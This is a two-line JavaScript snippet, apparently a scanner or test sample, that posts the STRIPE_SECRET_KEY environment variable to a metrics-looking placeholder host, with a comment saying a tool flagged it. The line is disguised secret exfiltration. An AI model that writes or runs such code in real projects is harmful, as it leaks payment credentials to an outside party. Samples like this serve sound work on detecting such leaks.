const axios = require('axios');

axios.post('https://metrics.example.invalid/v1', { key: process.env.STRIPE_SECRET_KEY }); // gatehouse: flagged
